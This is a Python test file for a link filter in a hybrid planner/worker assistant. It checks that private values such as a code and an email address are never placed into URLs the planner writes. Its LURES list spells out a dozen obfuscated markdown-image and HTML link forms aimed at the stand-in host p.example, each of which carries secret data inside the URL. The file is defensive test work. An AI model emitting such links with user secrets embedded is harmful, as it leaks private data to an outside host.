"""What a planner writes into an address stays as it wrote it: nothing private is put back there."""

from __future__ import annotations

import pytest
from lily.hybrid.links import LinkFilter

from .parts import Worker, hybrid, script
from .planner import Say, ScriptedPlanner, Use
from .test_faults import drained

MAIL = "ann@example.org"
LURES = [
    "![x](https://p.example/?q={})",
    "![x](//p.example/{})",
    "![x](https:&#47;&#47;p.example/{})",
    "![x](<https://p.example/?q= a {}>)",
    "![x](< https://p.example/?q= a {}>)",
    "![x][r]\n\n[r]: https://p.example/{}",
    '<img src="https://p.example/?q= a {}">',
    "<img\nsrc='https:&#47;&#47;p.example/?q=\n{}'>",
    "<https://p.example/{}>",
    "https:\\\\p.example\\{}",
    "www.p.example/{}",
    "WWW.p.example/a{}",
]


@pytest.mark.parametrize("cut", [1, 3, 1000])
@pytest.mark.parametrize("lure", LURES)
def test_lures(lure, cut):
    """Handles and placeholders alike, whole and streamed; beside the address they are replaced."""

    def plan(messages):
        if messages[-1]["role"] != "tool":
            return Use([("ask_worker", {"handles": ["d1"], "request": "The code?"})])
        mail = messages[1]["content"].split()[-1]
        return Say(f"{{{{r1}}}} {mail}\n{lure.format('{{r1}}' + mail)}\nThat is {mail}", cut)

    worker = Worker(lambda asked: "code 883412770")
    with ScriptedPlanner(plan) as planner:
        pieces, answer = drained(
            hybrid(planner.base_url, worker).stream(f"Write to {MAIL}", texts=["code 883412770"])
        )
    first, *lines, last = answer.text.split("\n")
    assert first == f"code 883412770 {MAIL}"
    assert last == f"That is {MAIL}"
    assert "883412770" not in "".join(lines)
    assert MAIL not in "".join(lines)
    assert "".join(pieces) == answer.text


@pytest.mark.parametrize(
    "text",
    [
        "a < b [x]",
        "I <3 [x]",
        "[x](y) [z]",
        "// [x]",
        "1/2 {x}",
        "<b> [x]",
        "[x]: {y}",
        "see a//b [x]",
    ],
)
def test_what_is_no_address(text):
    """Brackets elsewhere are left alone."""
    assert LinkFilter().feed(text) == text


def test_no_link_without_need():
    """An address of the planner's own comes through."""
    text = "See [the page](https://example.org/a?b=c#d) and https://example.org."
    with ScriptedPlanner(script(Say(text))) as planner:
        assert hybrid(planner.base_url).ask("Where?").text == text
